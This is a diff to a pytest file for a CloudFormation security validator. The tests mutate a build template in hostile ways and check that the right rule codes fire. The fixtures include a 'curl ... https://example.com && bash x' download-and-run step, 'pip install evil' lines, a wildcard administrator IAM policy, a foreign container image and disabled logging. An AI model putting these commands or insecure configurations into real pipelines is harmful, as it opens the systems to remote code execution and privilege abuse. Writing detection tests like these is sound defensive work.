@@ -89,6 +89,38 @@ def second_upload_role(template: Template) -> None:
     }
 
 
+def attached(name: Any) -> Weaken:  # noqa: ANN401 - text or an intrinsic
+    def weaken(template: Template) -> None:
+        properties = {**ADMINISTRATOR, "Roles": [name]}
+        template["Resources"]["More"] = {"Type": "AWS::IAM::Policy", "Properties": properties}
+
+    return weaken
+
+
+def confined(condition: dict[str, Any]) -> Weaken:
+    def weaken(template: Template) -> None:
+        document = role(template)["AssumeRolePolicyDocument"]
+        document["Statement"][0]["Condition"] = condition
+
+    return weaken
+
+
+def variable(name: str, **members: Any) -> Weaken:  # noqa: ANN401 - any member
+    def weaken(template: Template) -> None:
+        for each in project(template)["Environment"]["EnvironmentVariables"]:
+            if each["Name"] == name:
+                each.update(members)
+
+    return weaken
+
+
+ADMINISTRATOR: dict[str, Any] = {
+    "PolicyName": "administrator",
+    "PolicyDocument": {
+        "Version": "2012-10-17",
+        "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
+    },
+}
 OWN_KEY = {"Fn::GetAtt": ["EnclaveKey", "Arn"]}
 BUCKET = {"Fn::Sub": "arn:${AWS::Partition}:s3:::${ExternalBucketName}/*"}
 WEAKENED: dict[str, tuple[str, Weaken]] = {
@@ -163,6 +195,110 @@ WEAKENED: dict[str, tuple[str, Weaken]] = {
     ),
     "parameter-in-the-shell": ("E9003", parameter_in_shell),
     "changed-encryptor": ("E9005", build("os.urandom(", "bytes(")),
+    "build-has-policies-behind-a-condition": (
+        "E9201",
+        lambda template: role(template).update(
+            Policies={"Fn::If": ["HostIsNarrowedToRole", [ADMINISTRATOR], [ADMINISTRATOR]]}
+        ),
+    ),
+    "build-has-a-policy-as-text": (
+        "E9201",
+        lambda template: role(template)["Policies"].append(
+            {"PolicyName": "text", "PolicyDocument": json.dumps(ADMINISTRATOR["PolicyDocument"])}
+        ),
+    ),
+    "build-has-a-policy-by-a-name-in-text": ("E9201", attached({"Fn::Sub": "${BuildRole}"})),
+    "build-role-of-elsewhere": (
+        "E9201",
+        change(project, ServiceRole="arn:aws:iam::111111111111:role/administrator"),
+    ),
+    "any-projects-arn": ("E9202", confined({"ArnLike": {"aws:SourceArn": "arn:*"}})),
+    "the-hosts-account-as-source": (
+        "E9202",
+        confined(
+            {"StringEquals": {"aws:SourceAccount": {"Ref": "ExternalBucketAWSAccountNumber"}}}
+        ),
+    ),
+    "upload-flag-in-a-comment": (
+        "E9203",
+        build('"ExpectedBucketOwner": account,', "# ExpectedBucketOwner"),
+    ),
+    "second-source": (
+        "E9204",
+        change(project, SecondarySources=[{"Type": "GITHUB", "SourceIdentifier": "more"}]),
+    ),
+    "files-from-elsewhere": ("E9204", change(project, FileSystemLocations=[{"Type": "EFS"}])),
+    "log-in-a-bucket": (
+        "E9204",
+        lambda template: project(template)["LogsConfig"].update(
+            S3Logs={"Status": "ENABLED", "Location": "some-bucket/log"}
+        ),
+    ),
+    "privileged-behind-a-condition": (
+        "E9204",
+        lambda template: project(template)["Environment"].update(
+            PrivilegedMode={"Fn::If": ["HostIsNarrowedToRole", True, False]}
+        ),
+    ),
+    "sealing-under-the-hosts-key": (
+        "E9204",
+        variable("ENCRYPTION_KEY_ARN", Value={"Ref": "ExternalBucketEncryptionKeyArn"}),
+    ),
+    "key-from-a-parameter-store": (
+        "E9204",
+        variable("ENCRYPTION_KEY_ARN", Value="/key", Type="PARAMETER_STORE"),
+    ),
+    "upload-to-a-fixed-owner": (
+        "E9204",
+        variable("EXTERNAL_BUCKET_ACCOUNT", Value="333333333333"),
+    ),
+    "unpinned-install-before-a-pinned-one": (
+        "E9205",
+        build("- mkdir -p --", "- pip install evil\n    - mkdir -p --"),
+    ),
+    "hashes-in-a-comment": ("E9205", build("--require-hashes", "# --require-hashes")),
+    "install-by-module": (
+        "E9205",
+        build("- mkdir -p --", "- python3.13 -mpip install evil\n    - mkdir -p --"),
+    ),
+    "download-and-run": (
+        "E9205",
+        build("- mkdir -p --", "- curl -o x https://example.com && bash x\n    - mkdir -p --"),
+    ),
+    "buildspec-of-the-repository": (
+        "E9005",
+        lambda template: project(template)["Source"].update(BuildSpec="buildspec.yml"),
+    ),
+    "buildspec-of-elsewhere-behind-a-condition": (
+        "E9005",
+        lambda template: project(template)["Source"].update(
+            BuildSpec={
+                "Fn::If": [
+                    "HostIsNarrowedToRole",
+                    project(template)["Source"]["BuildSpec"],
+                    "arn:aws:s3:::bucket/buildspec.yml",
+                ]
+            }
+        ),
+    ),
+    "another-command": (
+        "W9209",
+        build("- mkdir -p --", "- sed -i s/a/b/ encryptor.py\n    - mkdir -p --"),
+    ),
+    "sealing-with-another-key-in-the-command": (
+        "W9209",
+        build('-k "$ENCRYPTION_KEY_ARN"', '-k "$EXTERNAL_BUCKET_KEY_ARN"'),
+    ),
+    "foreign-image": (
+        "W9206",
+        lambda template: project(template)["Environment"].update(Image="docker.io/evil/image"),
+    ),
+    "log-switched-off": (
+        "W9208",
+        lambda template: project(template)["LogsConfig"]["CloudWatchLogs"].update(
+            Status="DISABLED"
+        ),
+    ),
     "key-goes-with-the-stack": (
         "E9006",
         lambda template: template["Resources"]["EnclaveKey"].update(DeletionPolicy="Delete"),
@@ -174,11 +310,47 @@ WEAKENED: dict[str, tuple[str, Weaken]] = {
 def findings(tmp_path_factory: pytest.TempPathFactory) -> Findings:
     folder = tmp_path_factory.mktemp("weakened")
     ours = dict(read(OURS))
-    for name, (_, weaken) in WEAKENED.items():
+    changes = HARMLESS | {name: weaken for name, (_, weaken) in WEAKENED.items()}
+    for name, weaken in changes.items():
         template = copy.deepcopy(ours)
         weaken(template)
         (folder / f"{name}.json").write_text(json.dumps(template))
     return validated(folder.glob("*.json"))
+
+
+def another_project(template: Template) -> None:
+    template["Resources"]["Tests"] = {
+        "Type": "AWS::CodeBuild::Project",
+        "Properties": {
+            "ServiceRole": "arn:aws:iam::111111111111:role/tests",
+            "Artifacts": {"Type": "CODEPIPELINE"},
+            "Environment": {"Type": "LINUX_CONTAINER", "Image": "python", "ComputeType": "x"},
+            "Source": {"Type": "CODEPIPELINE", "BuildSpec": "tests.yml"},
+        },
+    }
+
+
+HARMLESS: dict[str, Weaken] = {
+    "another-project-for-something-else": another_project,
+    "a-comment-in-the-buildspec": build("# Wheels only", "# Only wheels"),
+    "the-log-by-its-name": lambda template: project(template)["LogsConfig"][
+        "CloudWatchLogs"
+    ].update(GroupName={"Fn::Sub": "${BuildLog}"}),
+    "a-tag": change(project, Tags=[{"Key": "team", "Value": "enclave"}]),
+    "another-time-limit": change(project, TimeoutInMinutes=480),
+    "a-larger-machine": lambda template: project(template)["Environment"].update(
+        ComputeType="BUILD_GENERAL1_2XLARGE"
+    ),
+    "a-topic": lambda template: template["Resources"].update(
+        {"Topic": {"Type": "AWS::SNS::Topic"}}
+    ),
+}
+
+
+@pytest.mark.parametrize("name", HARMLESS)
+def test_a_harmless_change_of_the_build_is_no_finding(findings: Findings, name: str) -> None:
+    found = [each for path, each in findings.items() if path.stem == name]
+    assert [(rule, text) for each in found for rule, text in each if rule[1] == "9"] == []
 
 
 @pytest.mark.parametrize("name", WEAKENED)
